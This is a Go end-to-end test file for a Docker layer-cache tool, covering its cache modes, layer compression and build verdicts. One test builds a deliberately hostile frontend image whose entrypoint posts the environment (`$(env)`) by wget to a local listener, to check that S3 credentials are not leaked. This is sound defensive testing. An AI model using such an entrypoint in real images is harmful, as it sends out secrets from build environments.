package e2e

import (
	"bufio"
	"io"
	"maps"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/google/go-containerregistry/pkg/name"
	v1 "github.com/google/go-containerregistry/pkg/v1"
	"github.com/google/go-containerregistry/pkg/v1/mutate"
	"github.com/google/go-containerregistry/pkg/v1/remote"
	"github.com/google/go-containerregistry/pkg/v1/types"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/layercache/layercache/test/kit/programs"
)

// oneStage is a Dockerfile with one stage, because a cache in the image covers only the last stage.
const oneStage = "FROM " + base + "\nCOPY deps.txt .\nRUN cat deps.txt > installed\nCOPY src src\n"

func TestModes(t *testing.T) {
	t.Parallel()
	afterTheChange := []string{sources, compile, last}
	cases := []struct {
		name       string
		dockerfile string
		env        func(*machine) map[string]string
		// all are the steps that run in a cold build. unchanged and changed are those that run in the next
		// two builds.
		all, unchanged, changed []string
		// exported is the cold build's report of the export.
		exported string
	}{
		{"registry caches every step", dockerfile, nil, everyStep, nil, afterTheChange, "yes"},
		{"registry with only the last stage's layers runs all steps after a change in another stage", dockerfile, variables("LAYERCACHE_LAYERS", "final"),
			everyStep, nil, everyStep, "yes"},
		{"inline reads the last stage from the pushed image", oneStage, variables("LAYERCACHE_MODE", "inline"),
			[]string{"COPY deps.txt .", "RUN cat deps.txt > installed", "COPY src src"}, nil, []string{"COPY src src"}, "yes"},
		{"image reads the last stage from the pushed image", oneStage, variables("LAYERCACHE_MODE", "image"),
			[]string{"COPY deps.txt .", "RUN cat deps.txt > installed", "COPY src src"}, nil, []string{"COPY src src"}, "yes"},
		{"local caches every step in a folder", dockerfile, func(w *machine) map[string]string {
			return map[string]string{"LAYERCACHE_MODE": "local", "LAYERCACHE_LOCAL_DIR": filepath.Join(w.tmp, "cache,dir")}
		}, everyStep, nil, afterTheChange, "yes"},
		{"s3 caches every step in a bucket", dockerfile, bucket, everyStep, nil, afterTheChange, "yes"},
		{"off caches nothing", dockerfile, variables("LAYERCACHE_MODE", "off"), everyStep, everyStep, everyStep, "off"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			w := newMachine(t)
			w.write("Dockerfile", c.dockerfile)
			w.set(c.env)
			cold := w.succeeds(w.build())
			assert.Equal(t, c.exported, cold.Exported)
			assert.NotRegexp(t, troubled, cold.log, "a first build has nothing to complain of")
			assert.ElementsMatch(t, c.all, cold.ran(), "cold")
			unchanged := w.succeeds(w.build())
			assert.ElementsMatch(t, c.unchanged, unchanged.ran(), "unchanged")
			w.write("src/main.txt", "changed\n")
			changed := w.succeeds(w.build())
			assert.ElementsMatch(t, c.changed, changed.ran(), "changed")

			if w.env["LAYERCACHE_MODE"] == "off" {
				assert.Equal(t, []string{"off", "off", "off"}, []string{cold.Verdict, unchanged.Verdict, changed.Verdict})
				return
			}
			assert.Equal(t, "cold", cold.Verdict, cold.VerdictReason)
			assert.Equal(t, "used", unchanged.Verdict, unchanged.VerdictReason)
			want := "partly-used"
			if len(c.changed) == len(c.all) {
				want = "cold"
			}
			assert.Equal(t, want, changed.Verdict, changed.VerdictReason)
			if w.env["LAYERCACHE_MODE"] != "" {
				assert.Empty(t, w.tags("cache"), "the cache must not be in the registry")
			}
		})
	}
}

// troubled matches what looks like a fault in a log.
const troubled = `(?i)\berror\b|warn|not found due to`

func TestAFirstBuildWithTheBuildxOfCodeBuildShowsNoError(t *testing.T) {
	t.Parallel()
	cases := []struct {
		name string
		env  func(*machine) map[string]string
	}{
		{"registry, on a branch", variables("LAYERCACHE_BRANCH", "next")},
		{"inline", variables("LAYERCACHE_MODE", "inline")},
		{"local", func(w *machine) map[string]string {
			return map[string]string{"LAYERCACHE_MODE": "local", "LAYERCACHE_LOCAL_DIR": filepath.Join(w.tmp, "cache")}
		}},
		{"s3", bucket},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			w := newMachine(t)
			w.set(c.env)
			w.env["DOCKER_CONFIG"] = filepath.Join(w.tmp, "docker")
			require.NoError(t, programs.UseCodeBuildBuildx(w.env["DOCKER_CONFIG"]))
			cold := w.succeeds(w.build())
			assert.Equal(t, "cold", cold.Verdict, cold.VerdictReason)
			assert.NotRegexp(t, troubled, cold.log)
		})
	}
}

// A local cache whose layout was deleted, and one in which no step matches, are told apart.
func TestALocalCacheThatIsGone(t *testing.T) {
	t.Parallel()
	w := newMachine(t)
	folder := filepath.Join(w.tmp, "cache")
	w.env["LAYERCACHE_MODE"], w.env["LAYERCACHE_LOCAL_DIR"] = "local", folder
	w.succeeds(w.build())
	w.write("Dockerfile", "FROM "+base+"\nCOPY src other\n")
	other := w.succeeds(w.build())
	assert.Contains(t, other.VerdictReason, "there is a cache, but every step had to run")
	require.NoError(t, os.Remove(filepath.Join(folder, "index.json")))
	gone := w.succeeds(w.build())
	assert.Contains(t, gone.VerdictReason, "its files in "+folder+" were deleted")
	assert.NotRegexp(t, troubled, gone.log)
}

// A frontend is an image that the Dockerfile names. BuildKit passes it the flags of the imported caches.
func TestAFrontendIsNotGivenTheCredentialsOfTheBucket(t *testing.T) {
	t.Parallel()
	w := newMachine(t)
	w.set(bucket)
	given := make(chan string, 1)
	listener := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		content, _ := io.ReadAll(r.Body)
		given <- string(content)
	}))
	defer listener.Close()
	frontend := w.registry.Addr() + "/frontend:1"
	image, err := mutate.Config(w.pulled(w.registry.Addr()+"/ecr-public/docker/library/busybox:1.37"), v1.Config{
		Entrypoint: []string{"/bin/sh", "-c", `wget -q -O /dev/null --post-data "$(env)" ` + listener.URL}, Env: []string{"PATH=/bin:/usr/bin"},
	})
	require.NoError(t, err)
	ref, err := name.ParseReference(frontend)
	require.NoError(t, err)
	require.NoError(t, remote.Write(ref, image))
	w.write("Dockerfile", oneStage)
	w.succeeds(w.build()) // A cache that does not exist is not imported.
	w.write("Dockerfile", "# syntax="+frontend+"\n"+oneStage)
	got := w.build()
	assert.NotZero(t, got.exitCode)
	select {
	case environment := <-given:
		assert.Contains(t, environment, `"bucket":"caches"`, "the frontend must get the flags of the caches")
		assert.NotContains(t, environment, w.env["AWS_ACCESS_KEY_ID"])
		assert.NotContains(t, environment, w.env["AWS_SECRET_ACCESS_KEY"])
	default:
		assert.Fail(t, "the frontend was not called", got.log)
	}
}

func TestLayersOfTheCache(t *testing.T) {
	t.Parallel()
	cases := []struct {
		name string
		env  func(*machine) map[string]string
		// additional is the number of layers by media type that the cache has and the image does not have.
		additional map[types.MediaType]int
	}{
		{"every step, with zstd for those that are not in the image", nil, map[types.MediaType]int{types.OCILayerZStd: 5}},
		{"every step, with gzip", variables("LAYERCACHE_COMPRESSION", "gzip"), map[types.MediaType]int{types.OCILayer: 5}},
		{"every step, with zstd", variables("LAYERCACHE_COMPRESSION", "zstd"), map[types.MediaType]int{types.OCILayerZStd: 5}},
		{"every step, with zstd at a given level", func(*machine) map[string]string {
			return map[string]string{"LAYERCACHE_COMPRESSION": "zstd", "LAYERCACHE_COMPRESSION_LEVEL": "19"}
		}, map[types.MediaType]int{types.OCILayerZStd: 5}},
		{"only the last stage, whose layers are in the image", variables("LAYERCACHE_LAYERS", "final"), map[types.MediaType]int{}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			w := newMachine(t)
			w.set(c.env)
			w.succeeds(w.build())
			image := w.layers(w.image())
			additional := map[types.MediaType]int{}
			for digest, mediaType := range w.layers(w.registry.Addr() + "/cache:shop--linux-amd64--main") {
				if _, ok := image[digest]; !ok {
					additional[mediaType]++
				}
			}
			assert.Equal(t, c.additional, additional)
		})
	}
}

// layers returns the media types of the layers of an image or a cache, by digest.
func (w *machine) layers(ref string) map[v1.Hash]types.MediaType {
	w.t.Helper()
	manifest, err := w.pulled(ref).Manifest()
	require.NoError(w.t, err)
	layers := map[v1.Hash]types.MediaType{}
	for _, layer := range manifest.Layers {
		layers[layer.Digest] = layer.MediaType
	}
	return layers
}

// set sets the variables that env returns. env may be nil.
func (w *machine) set(env func(*machine) map[string]string) {
	if env != nil {
		maps.Copy(w.env, env(w))
	}
}

// variables returns a function that sets one variable.
func variables(variable, value string) func(*machine) map[string]string {
	return func(*machine) map[string]string { return map[string]string{variable: value} }
}

var runningOn = regexp.MustCompile(`Running on (http://\S+:(\d+))`)

// bucket starts a fake S3 with a bucket and returns the variables to use it.
func bucket(w *machine) map[string]string {
	w.t.Helper()
	cmd := exec.Command("moto_server", "-p", "0")
	stderr, err := cmd.StderrPipe()
	require.NoError(w.t, err)
	require.NoError(w.t, cmd.Start(), "moto_server is in test/requirements.txt: `make test` installs it")
	w.t.Cleanup(func() {
		_ = cmd.Process.Kill()
		_ = cmd.Wait()
	})
	lines, address := bufio.NewScanner(stderr), ""
	for address == "" && lines.Scan() {
		if match := runningOn.FindStringSubmatch(lines.Text()); match != nil {
			address = "http://127.0.0.1:" + match[2]
		}
	}
	require.NotEmpty(w.t, address, "moto_server did not print its address")
	go func() {
		for lines.Scan() {
			continue
		}
	}()
	request, err := http.NewRequestWithContext(w.t.Context(), http.MethodPut, address+"/caches", strings.NewReader(""))
	require.NoError(w.t, err)
	answer, err := http.DefaultClient.Do(request)
	require.NoError(w.t, err)
	require.NoError(w.t, answer.Body.Close())
	require.Equal(w.t, http.StatusOK, answer.StatusCode)
	return map[string]string{
		"LAYERCACHE_MODE": "s3", "LAYERCACHE_S3": "caches/shop/", "AWS_ENDPOINT_URL_S3": address, "AWS_REGION": "us-east-1",
		"AWS_ACCESS_KEY_ID": "AKIDEXAMPLE", "AWS_SECRET_ACCESS_KEY": "the-bucket-s-secret-key",
	}
}
